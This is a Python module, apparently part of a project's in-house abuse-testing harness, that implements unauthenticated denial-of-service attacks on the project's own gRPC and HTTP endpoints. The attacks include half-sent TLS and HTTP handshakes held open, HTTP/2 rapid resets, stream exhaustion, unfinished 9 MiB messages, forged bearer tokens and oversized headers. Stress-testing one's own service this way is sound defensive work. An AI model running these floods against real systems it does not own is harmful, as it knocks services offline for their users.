"""Attacks that need no credential: connections that say too little, and messages before authentication."""

import asyncio
import contextlib
import ssl
from collections import Counter
from collections.abc import Callable, Coroutine
from typing import Any

from tools.abuse.http2 import Ended, Http2
from tools.abuse.target import Target, host_and_port

_CONNECTIONS = 2000
_AT_ONCE = 50
_AGAIN_SECONDS = 0.2
_MESSAGES = 50
_MESSAGE_BYTES = 9 * 1024 * 1024 - 1024  # nearly the largest that the server takes: of a larger one it takes nothing
_UNAUTHENTICATED_METHOD = "/jumplab.client.v1.ClientService/ListExporters"
# A record of TLS that announces a ClientHello of 512 bytes, of which one comes.
_HALF_HELLO = bytes.fromhex("1603010200 01")
_HALF_HEADER = b"GET /livez HTTP/1.1\r\nHost: "

Counts = Counter[str]
Attack = Callable[[Target, Counts], Coroutine[Any, Any, None]]
"""Goes on until it is cancelled, and counts what it has done."""


def connections(where: str, text: bytes, *protocols: str, encrypted: bool = False) -> Attack:
    """2,000 connections that send a text and no more; each that is ended is replaced.

    where: the address's name in the target.  encrypted: they shake hands first, and offer these protocols.
    """

    async def attack(target: Target, counts: Counts) -> None:
        turn = asyncio.Semaphore(_AT_ONCE)
        tls = target.tls(*protocols) if encrypted else None
        address = host_and_port(getattr(target, where))
        async with asyncio.TaskGroup() as tasks:
            for number in range(_CONNECTIONS):
                tasks.create_task(_stay(address, tls, text, turn, counts), name=f"connection {number}")

    return attack


async def _stay(
    address: tuple[str, int], tls: ssl.SSLContext | None, text: bytes, turn: asyncio.Semaphore, counts: Counts
) -> None:
    while True:
        try:
            async with turn:
                reader, writer = await asyncio.open_connection(*address, ssl=tls)
                counts["connections"] += 1
                writer.write(text)
        except OSError:
            counts["refused"] += 1
        else:
            with contextlib.suppress(OSError):
                while await reader.read(1000):
                    pass
            counts["ended"] += 1
            writer.transport.abort()
        await asyncio.sleep(_AGAIN_SECONDS)


async def handshakes(target: Target, counts: Counts) -> None:
    """Whole TLS handshakes with the gRPC port, one after the other on each of eight connections."""
    tls = target.tls("h2")

    async def shake() -> None:
        while True:
            try:
                _, writer = await asyncio.open_connection(*host_and_port(target.grpc), ssl=tls)
            except OSError:
                counts["refused"] += 1
                await asyncio.sleep(_AGAIN_SECONDS)
            else:
                counts["handshakes"] += 1
                writer.transport.abort()

    async with asyncio.TaskGroup() as tasks:
        for number in range(8):
            tasks.create_task(shake(), name=f"handshakes {number}")


async def unfinished_messages(target: Target, counts: Counts) -> None:
    """50 messages of 9 MiB on one connection, each without its last byte, and with no token."""
    await leave_unfinished(target, counts, _UNAUTHENTICATED_METHOD, ())


async def leave_unfinished(
    target: Target, counts: Counts, path: str, metadata: tuple[tuple[str, str], ...], connections: int = 1
) -> None:
    """Sends all but the end of 50 messages on each connection, and stays."""

    async def send(connection: Http2) -> None:
        number = await connection.open(path, metadata)
        length = _MESSAGE_BYTES.to_bytes(4, "big")
        try:
            await connection.send(number, b"\0" + length)
            for _ in range(_MESSAGE_BYTES // 16_384 - 1):
                await connection.send(number, bytes(16_384))
                counts["KiB sent"] += 16
            counts["unfinished messages"] += 1
        except Ended:
            counts["ended streams"] += 1

    async def stay() -> None:
        async with Http2.connected(target) as connection, asyncio.TaskGroup() as tasks:
            for number in range(_MESSAGES):
                tasks.create_task(send(connection), name=f"message {number}")
            await asyncio.Event().wait()

    async with asyncio.TaskGroup() as tasks:
        for number in range(connections):
            tasks.create_task(stay(), name=f"connection {number}")


async def rapid_resets(target: Target, counts: Counts) -> None:
    """Streams that are opened and reset at full speed, on four connections."""

    async def reset(connection: Http2) -> None:
        while True:
            await connection.reset(await connection.open(_UNAUTHENTICATED_METHOD))
            counts["resets"] += 1
            if counts["resets"] % 100 == 0:
                await asyncio.sleep(0)

    await _on_connections(4, target, counts, reset)


async def many_streams(target: Target, counts: Counts) -> None:
    """Streams without a message, as many as one connection takes."""

    async def open_all(connection: Http2) -> None:
        for _ in range(20_000):
            await connection.open(_UNAUTHENTICATED_METHOD)
            counts["streams"] += 1
        await asyncio.Event().wait()

    await _on_connections(1, target, counts, open_all)


async def strangers_calls(target: Target, counts: Counts) -> None:
    """Calls with a token that nobody signed, at full speed on four connections."""

    async def call(connection: Http2) -> None:
        while True:
            number = await connection.open(
                _UNAUTHENTICATED_METHOD, (("authorization", "Bearer eyJhbGciOiJFUzI1NiJ9.e30.x"),)
            )
            await connection.send(number, bytes(5))
            counts["calls"] += 1
            if counts["calls"] % 100 == 0:
                await asyncio.sleep(0)

    await _on_connections(4, target, counts, call)


async def long_headers(target: Target, counts: Counts) -> None:
    """Headers of a megabyte, again and again."""
    many = tuple((f"x-{number}", "x" * 1000) for number in range(15))

    async def call(connection: Http2) -> None:
        while True:
            await connection.open(_UNAUTHENTICATED_METHOD, many)
            counts["headers"] += 1
            if counts["headers"] % 10 == 0:
                await asyncio.sleep(0)

    await _on_connections(4, target, counts, call)


async def _on_connections(
    count: int, target: Target, counts: Counts, use: Callable[[Http2], Coroutine[Any, Any, None]]
) -> None:
    """Uses each connection until the server ends it, and then a new one."""

    async def again() -> None:
        while True:
            try:
                async with Http2.connected(target) as connection:
                    counts["connections"] += 1
                    await use(connection)
            except (OSError, Ended):
                counts["ended connections"] += 1
                await asyncio.sleep(_AGAIN_SECONDS)

    async with asyncio.TaskGroup() as tasks:
        for number in range(count):
            tasks.create_task(again(), name=f"connection {number}")


half_tls_handshakes = connections("grpc", _HALF_HELLO)
silent_grpc = connections("grpc", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0", "h2", encrypted=True)
half_http_handshakes = connections("api", _HALF_HELLO)
half_headers = connections("api", _HALF_HEADER, encrypted=True)
half_probes = connections("health", _HALF_HEADER)
